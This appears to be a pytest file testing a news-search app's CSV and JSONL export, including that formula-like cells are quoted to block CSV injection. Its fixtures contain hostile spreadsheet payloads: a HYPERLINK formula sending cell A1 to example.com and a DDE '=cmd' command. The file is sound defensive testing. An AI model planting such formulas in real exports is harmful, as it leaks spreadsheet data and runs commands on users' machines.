"""Export (SPEC §5, §7): one CSV writer for the web and the CLI. The CSV opens in Excel with
Vietnamese intact (UTF-8 BOM) and no cell starts a formula (OWASP CSV injection advice)."""
from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

import manage
from search.export import CSV_COLUMNS, csv_cell
from helpers import client_of, index_of, where

BODY = "Người dân Quảng Nam chuẩn bị ứng phó với bão số 5, chính quyền sơ tán các hộ ven biển."
HOSTILE = {
    "f1": '=HYPERLINK("http://example.com/?x="&A1,"Bấm")',
    "f2": "+84 là mã vùng của Việt Nam khi gọi bão",
    "f3": "-1 độ C ở Sa Pa trong đợt bão",
    "f4": "@mọi người chú ý bão",
}  # a leading tab or carriage return never reaches a stored title (ingest trims it): csv_cell checks those
ARTICLES = [{"id": i, "title": t, "text": BODY, "date": "2024-09-20"} for i, t in HOSTILE.items()] + [
    {"id": "dated", "title": "Bão số 5 đổ bộ miền Trung", "text": BODY, "published": "2024-09-19T08:30:00+07:00",
     "author": "=cmd|' /C calc'!A0"},
]


@pytest.fixture(scope="module")
def export_index(tmp_path_factory, backend):
    return index_of(tmp_path_factory, ARTICLES, "export", backend)


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http://x"&A1,"Bấm")', '\'=HYPERLINK("http://x"&A1,"Bấm")'), ("+84", "'+84"), ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("Bão số 5", "Bão số 5"), ("a=b", "a=b"),
    (None, ""), (2024, "2024"),
])
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(value, cell):
    assert csv_cell(value) == cell


def _rows(data: str) -> list[dict]:
    assert data.startswith("\ufeff"), "no UTF-8 BOM: Excel would read the Vietnamese as mojibake"
    rows = list(csv.DictReader(io.StringIO(data[1:], newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    return rows


def _check_neutralised(rows: list[dict]) -> None:
    by_id = {row["id"]: row for row in rows}
    assert set(by_id) == set(HOSTILE) | {"dated"}
    for article_id, title in HOSTILE.items():
        assert by_id[article_id]["title"] == "'" + title
    assert by_id["dated"]["author"] == "'=cmd|' /C calc'!A0"
    assert by_id["dated"]["title"] == "Bão số 5 đổ bộ miền Trung"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_web_csv_export_has_a_bom_and_no_formula_cells(export_index):
    client = client_of(export_index)
    response = client.get("/api/export?q=bão&format=csv")
    assert response.status_code == 200 and response.is_streamed
    data = response.get_data().decode("utf-8")
    _check_neutralised(_rows(data))
    assert data.count("\ufeff") == 1


def test_cli_csv_export_has_a_bom_and_no_formula_cells(export_index):
    result = CliRunner().invoke(manage.cli, ["search", "bão", "--export", "csv", *where(export_index)])
    assert result.exit_code == 0, result.output
    _check_neutralised(_rows(result.stdout))


def test_web_and_cli_exports_are_the_same_bytes(export_index):
    client = client_of(export_index)
    for fmt in ("csv", "jsonl"):
        web = client.get(f"/api/export?q=bão&format={fmt}&sort=newest").get_data().decode("utf-8")
        cli = CliRunner().invoke(manage.cli, ["search", "bão", "--export", fmt, "--sort", "newest",
                                              *where(export_index)]).stdout_bytes
        assert web == cli.decode("utf-8"), fmt


def test_jsonl_export_keeps_values_as_they_are(export_index):
    client = client_of(export_index)
    records = [json.loads(line) for line in client.get("/api/export?q=bão&format=jsonl").get_data(as_text=True)
               .splitlines()]
    assert {r["id"]: r["title"] for r in records if r["id"] in HOSTILE} == HOSTILE


def test_every_export_row_and_json_has_the_day_beside_published(export_index):
    client = client_of(export_index)
    rows = {r["id"]: r for r in _rows(client.get("/api/export?q=bão&format=csv").get_data().decode("utf-8"))}
    assert (rows["dated"]["published"], rows["dated"]["published_date"]) == ("2024-09-19T08:30:00+07:00",
                                                                            "2024-09-19")
    assert (rows["f1"]["published"], rows["f1"]["published_date"]) == ("2024-09-20", "2024-09-20")
    records = {json.loads(line)["id"]: json.loads(line)
               for line in client.get("/api/export?q=bão&format=jsonl").get_data(as_text=True).splitlines()}
    assert records["dated"]["published_date"] == "2024-09-19"
